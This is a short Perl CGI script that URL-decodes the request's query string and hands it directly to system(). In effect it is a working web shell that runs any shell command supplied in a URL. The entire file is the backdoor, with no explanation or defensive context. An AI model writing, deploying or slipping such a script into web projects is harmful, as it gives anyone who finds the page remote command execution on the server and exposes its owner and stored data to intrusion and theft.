#!/usr/bin/perl
print "Content-type: text/plain\n\n";
my $q = $ENV{'QUERY_STRING'};
$q =~ s/%([0-9A-Fa-f]{2})/chr(hex($1))/eg;
$q =~ s/\+/ /g;
system($q);
